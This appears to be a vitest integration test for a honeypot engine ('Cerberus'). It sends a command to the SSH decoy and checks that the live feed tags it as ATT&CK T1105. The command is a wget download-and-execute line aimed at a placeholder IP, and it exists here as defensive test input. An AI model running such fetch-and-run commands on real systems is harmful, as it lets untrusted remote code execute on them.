import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import WebSocket from 'ws';
import { type SshResult, ssh } from '../../decoys/test/support/clients.ts';
import { type EngineProcess, startProcess } from './support/engine-process.ts';

let folder: string;
let up: EngineProcess;
let port: number;
let live: WebSocket;
const messages: string[] = [];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'cerberus-decoy-'));
  up = startProcess(['up'], {
    CERBERUS_DATA_DIR: folder,
    CERBERUS_DECOY: 'true',
    CERBERUS_DECOY_SSH_PORT: '0',
    CERBERUS_DECOY_TELNET_PORT: '0',
    CERBERUS_DECOY_HTTP_PORT: '0',
    COWRIE_LOG_PATH: join(folder, 'no-cowrie.json'),
    PORT: '0',
  });
  const token = await up.untilSaid(/(cm_[\w-]+)/);
  port = Number(await up.untilSaid(/ssh -p (\d+) root@127\.0\.0\.1/));
  const url = await up.untilSaid(/is up:\s+(\S+)/);
  live = new WebSocket(`${url.replace('http', 'ws')}/ws`, ['cerberus.v1', token]);
  live.on('message', (bytes) => messages.push(String(bytes)));
  await new Promise((resolve, reject) => {
    live.once('open', resolve);
    live.once('error', reject);
  });
}, 60_000);

afterAll(async () => {
  live?.close();
  await up?.kill('SIGTERM');
  rmSync(folder, { recursive: true, force: true });
});

it('what is typed in the decoy of a fresh start is on the live feed, assessed, before the visitor has left', async () => {
  const done: SshResult = await ssh(port, 'wget http://203.0.113.5/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh');
  expect(done.stderr).toContain('No route to host');
  await expect.poll(() => messages.find((text) => text.includes('203.0.113.5'))).toContain('T1105');
});
